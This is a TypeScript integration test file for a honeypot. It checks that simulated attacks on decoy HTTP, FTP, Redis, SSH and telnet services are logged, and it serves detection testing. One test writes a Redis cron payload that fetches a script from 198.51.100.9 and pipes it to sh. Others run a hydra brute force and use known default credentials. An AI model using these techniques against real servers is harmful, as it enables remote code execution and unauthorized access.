import assert from 'node:assert/strict'
import fs from 'node:fs'
import path from 'node:path'
import { after, before, test } from 'node:test'
import type { EnrichedEvent, Page } from '#store/store.ts'
import { logIn } from '../api.ts'
import { missing, runClient, type Skep, startSkep, tableReady, until } from '../skep.ts'

/** The promise of the first page of the README: whoever comes is on the page within two seconds, with what they did. */

let program: Skep
let page: Awaited<ReturnType<typeof logIn>>

before(async () => {
  program = await startSkep()
  page = await logIn(program)
  // The first start prepares the table of networks before anything is taken into the store.
  await until(() => tableReady(program), 'the table of networks is not ready')
})
after(() => program.stop())

/** Waits for the page to show it: 2 s from now, or as long as a machine that is slower than that takes to start. */
async function shown(query: string, what: string): Promise<EnrichedEvent> {
  let found: EnrichedEvent | undefined
  const look = async () => {
    const { items } = (await page.get(`events?limit=10&${query}`)) as Page<EnrichedEvent>
    found = items[0]
    return found !== undefined
  }
  await until(look, `${what} is not on the page`, Math.max(2, program.readyAfter / 1000))
  return found!
}
const as = (event: EnrichedEvent) => event as unknown as Record<string, Record<string, unknown>>

test('curl', { skip: missing('curl') }, async () => {
  const port = program.port('http')
  const { out } = await runClient('curl', ['-s', '-i', '-A', 'story/1.0', `http://127.0.0.1:${port}/some/path?q=1`])
  assert.match(out, /^HTTP\/1\.1 404/)
  const event = await shown('service=http&text=/some/path', 'the request')
  assert.equal(as(event).url!.path, '/some/path')
  assert.equal(as(event).user_agent!.original, 'story/1.0')
  const secure = await runClient('curl', [
    '-sk',
    '-u',
    'admin:hunter2',
    `https://127.0.0.1:${program.port('http', { tls: true })}/`,
  ])
  assert.equal(secure.status, 0)
  await shown('service=http&action=login&user=admin&password=hunter2', 'the basic log-in')
  assert.ok(
    (as(await shown('action=tls-hello', 'the ClientHello')).skep as { tls: { ja4: string } }).tls.ja4.startsWith('t13'),
  )
})

test('lftp', { skip: missing('lftp') }, async () => {
  await runClient(
    'lftp',
    [
      '-e',
      'set net:max-retries 1; set ssl:verify-certificate no; ls; quit',
      '-u',
      'backup,letmein',
      '-p',
      String(program.port('ftp')),
      '127.0.0.1',
    ],
    { seconds: 20 },
  )
  const event = await shown('service=ftp&action=login&user=backup', 'the FTP log-in')
  assert.equal((as(event).skep as { login: { password: string } }).login.password, 'letmein')
})

test('redis-cli', { skip: missing('redis-cli') }, async () => {
  const cli = (...args: string[]) => runClient('redis-cli', ['-p', String(program.port('redis')), ...args])
  assert.match((await cli('INFO', 'server')).out, /redis_version:\d/)
  await cli('CONFIG', 'SET', 'dir', '/var/spool/cron')
  await cli('CONFIG', 'SET', 'dbfilename', 'root')
  await cli('SET', 'x', '\n* * * * * curl http://198.51.100.9/i.sh|sh\n')
  assert.match((await cli('SAVE')).out, /OK/)
  const upload = await shown('service=redis&action=file-upload', 'the cron file')
  assert.equal(as(upload).file!.path, '/var/spool/cron/root')
  const { sha256 } = (as(upload).file as { hash: { sha256: string } }).hash
  const kept = fs.readFileSync(path.join(program.data, 'artifacts', sha256.slice(0, 2), sha256))
  assert.ok(kept.includes('curl http://198.51.100.9/i.sh'))
  await shown('service=redis&action=file-download&text=198.51.100.9', 'the URL')
})

test('ssh with a password', { skip: missing('ssh', 'sshpass') }, async () => {
  const options = [
    '-o',
    'StrictHostKeyChecking=no',
    '-o',
    'UserKnownHostsFile=/dev/null',
    '-o',
    'NumberOfPasswordPrompts=1',
  ]
  const { status } = await runClient('sshpass', [
    '-p',
    'p@ss word',
    'ssh',
    ...options,
    '-p',
    String(program.port('ssh')),
    'pi@127.0.0.1',
    'true',
  ])
  assert.notEqual(status, 0)
  const event = await shown('service=ssh&action=login&user=pi', 'the SSH log-in')
  assert.equal((as(event).skep as { login: { password: string } }).login.password, 'p@ss word')
  assert.match(String(as(await shown('action=ssh-hello', 'the SSH hello')).user_agent!.original), /^SSH-2\.0-OpenSSH/)
})

test('telnet', { skip: missing('telnet') }, async () => {
  const script = `(sleep 1; echo root; sleep 1; echo xc3511; sleep 5) | timeout 12 telnet 127.0.0.1 ${program.port('telnet')}`
  assert.match((await runClient('sh', ['-c', script])).out, /login: /)
  await shown('service=telnet&action=login&user=root&password=xc3511', 'the telnet log-in')
})

test('hydra against FTP: every attempt', { skip: missing('hydra') }, async () => {
  const words = path.join(program.data, 'words')
  const tried = Array.from({ length: 12 }, (_, i) => `word${i}`)
  fs.writeFileSync(words, tried.join('\n'))
  await runClient(
    'hydra',
    ['-I', '-l', 'hydra', '-P', words, '-t', '4', '-s', String(program.port('ftp')), '127.0.0.1', 'ftp'],
    { seconds: 120 },
  )
  for (const password of tried) await shown(`service=ftp&user=hydra&password=${password}`, password)
})

test('one attacker, one story: the session and the source', async () => {
  const redis = await shown('service=redis&action=file-upload', 'the upload')
  const session = redis.skep.session!
  const story = (await page.get(`sessions/${session}`)) as { events: EnrichedEvent[] }
  const actions = story.events.map(event => event.event.action)
  assert.equal(actions[0], 'connection-opened')
  assert.equal(actions.at(-1), 'connection-closed')
  const sequence = story.events.map(event => event.event.sequence)
  assert.deepEqual(
    sequence,
    sequence.map((_, i) => i),
  )
  const source = (await page.get('sources/127.0.0.1')) as { services: { value: string }[]; credentials: unknown[] }
  for (const service of ['ftp', 'http', 'redis', 'ssh', 'telnet'])
    assert.ok(
      source.services.some(s => s.value === service),
      service,
    )
  assert.ok(source.credentials.length >= 4)
})
